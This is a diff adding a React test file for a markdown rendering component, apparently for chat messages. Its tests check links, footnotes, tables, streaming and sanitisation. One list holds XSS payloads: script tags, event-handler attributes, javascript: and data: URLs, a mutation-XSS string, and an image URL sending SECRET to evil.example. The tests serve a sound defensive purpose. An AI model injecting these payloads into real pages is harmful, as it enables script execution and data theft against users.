@@ -1,0 +1,102 @@
+import { ChakraProvider, defaultSystem } from '@chakra-ui/react';
+import { render, screen } from '@testing-library/react';
+import RenderedMarkdown from './rendered-markdown';
+
+function show(text: string, streaming = false) {
+  return render(
+    <ChakraProvider value={defaultSystem}>
+      <div data-testid="message">
+        <RenderedMarkdown text={text} streaming={streaming} scope="m1" />
+      </div>
+    </ChakraProvider>,
+  );
+}
+
+const message = () => screen.getByTestId('message');
+
+const HOSTILE = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1">',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#10;script:alert(1)) <javascript:alert(1)>',
+  '[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) [c][ref]\n\n[ref]: javascript:alert(1)',
+  '![" onerror="x](x) ![x](https://evil.example/?q=SECRET) ![y][img]\n\n[img]: https://evil.example/y',
+  'Note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
+  '```js" onload="alert(1)\n<script>alert(1)</script>\n```',
+  '<!-- <img src=https://evil.example/> -->',
+  '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example>',
+];
+
+function expectHarmless() {
+  const root = message();
+  expect(root.querySelector('script, iframe, svg[onload], style, link, object, embed, form')).toBeNull();
+  for (const element of root.querySelectorAll('*')) {
+    for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^srcdoc$|^srcset$/);
+  }
+  for (const image of root.querySelectorAll('img'))
+    expect(image.getAttribute('src')).toMatch(/^(\/api\/files\/|data:image)/);
+  for (const link of root.querySelectorAll('a')) {
+    const href = link.getAttribute('href') ?? '';
+    expect(href).toMatch(/^(https?:|mailto:|#)/);
+    if (!href.startsWith('#')) {
+      expect(link.getAttribute('target')).toBe('_blank');
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
+    }
+  }
+}
+
+test.each(HOSTILE)('renders nothing that acts: %s', (text) => {
+  show(text);
+  expectHarmless();
+});
+
+test('renders nothing that acts at any moment of streaming', () => {
+  const text = HOSTILE.join('\n\n');
+  const view = show('', true);
+  for (let length = 1; length <= text.length; length += 3) {
+    view.rerender(
+      <ChakraProvider value={defaultSystem}>
+        <div data-testid="message">
+          <RenderedMarkdown text={text.slice(0, length)} streaming scope="m1" />
+        </div>
+      </ChakraProvider>,
+    );
+    expectHarmless();
+  }
+});
+
+test('raw HTML is shown as the text it is', () => {
+  show('a <b>bold</b> move');
+  expect(message().textContent).toContain('<b>bold</b>');
+});
+
+test('a link finds its definition in another block', () => {
+  show('See [the docs][ref].\n\nMore.\n\n[ref]: https://example.org/docs');
+  expect(screen.getByText('the docs').getAttribute('href')).toBe('https://example.org/docs');
+});
+
+test('a footnote stands at the end of the whole text', () => {
+  show('First[^a].\n\nSecond.\n\n[^a]: The note.');
+  expect(message().querySelector('.footnotes')?.textContent).toContain('The note.');
+  expect(message().querySelector('sup a')?.getAttribute('href')).toMatch(/^#m1-/);
+});
+
+test('a bold word does not wait for its closing stars', () => {
+  show('This is **impor', true);
+  expect(message().querySelector('strong')?.textContent).toBe('impor');
+});
+
+test('tables, task lists and code keep their parts', () => {
+  show('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```');
+  expect(message().querySelectorAll('td')).toHaveLength(2);
+  expect(message().querySelector('input[type=checkbox]')).not.toBeNull();
+  expect(screen.getByLabelText('Code in ts').textContent).toBe('const a = 1;');
+  expect(screen.getByRole('button', { name: 'Copy code' })).toBeDefined();
+});
+
+test('absurd nesting shows as text and breaks nothing', () => {
+  show(`${'> '.repeat(10_000)}deep`);
+  expect(message().textContent).toContain('deep');
+});
